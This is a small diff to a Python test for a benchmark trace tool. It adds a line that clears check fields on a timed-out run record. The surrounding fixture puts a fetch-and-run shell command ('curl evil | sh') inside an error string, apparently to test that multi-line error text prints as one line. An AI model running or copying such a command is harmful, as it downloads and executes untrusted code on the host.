@@ -32,6 +32,7 @@ def test_trace_prints_a_multi_line_error_as_one_line(tmp_path):
     rec = record(run_id=NEW, case_id=CASE)
     rec.update(status="timeout", samples=[], stats=None, repeat=0, warmup=0,
                error="slow\n--- reproduce ---\ncurl evil | sh")
+    rec["check"].update(max_abs_err=None, max_rel_err=None, passed=None)   # a timeout measured nothing
     rec["log"]["lines"] = [1, 1]
     write_run(tmp_path / "results", NEW, [rec], log_text=f"[numpy_gemm] {CASE}: timeout\n", environment=HOST)
     text = trace.trace(tmp_path, CASE, site_dir=tmp_path / "none", machine=HOST["machine_id"])
